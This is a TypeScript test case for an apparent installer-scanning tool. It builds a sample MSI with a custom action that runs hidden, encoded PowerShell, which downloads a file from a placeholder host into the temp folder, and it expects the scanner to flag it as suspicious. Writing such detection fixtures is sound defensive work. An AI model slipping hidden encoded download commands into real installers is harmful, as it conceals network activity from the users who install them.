/** One action runs encoded PowerShell that downloads. */
import { buildInstaller } from '../builder/installer.js';
import { encodedPowerShell } from '../builder/text.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

const SCRIPT = '(New-Object Net.WebClient).DownloadFile(\'http://files.invalid/u\', "$env:TEMP\\u.txt")';

export const sample: SampleCase = {
  name: 'other-encoded-powershell',
  title: 'an action with encoded PowerShell',
  kind: 'other',
  fileName: 'encoded.msi',
  build: () =>
    buildInstaller({
      name: 'Encoded Starter',
      customActions: [
        {
          name: 'Run',
          type: 34,
          source: 'TARGETDIR',
          target: `powershell -NoP -W Hidden -EncodedCommand ${encodedPowerShell(SCRIPT)}`,
          after: 'InstallFinalize',
        },
      ],
    }),
  expected: noBundle({
    verdict: 'suspicious',
    findings: [ruleId.encodedPowerShell, ruleId.powerShellDownload],
  }),
};
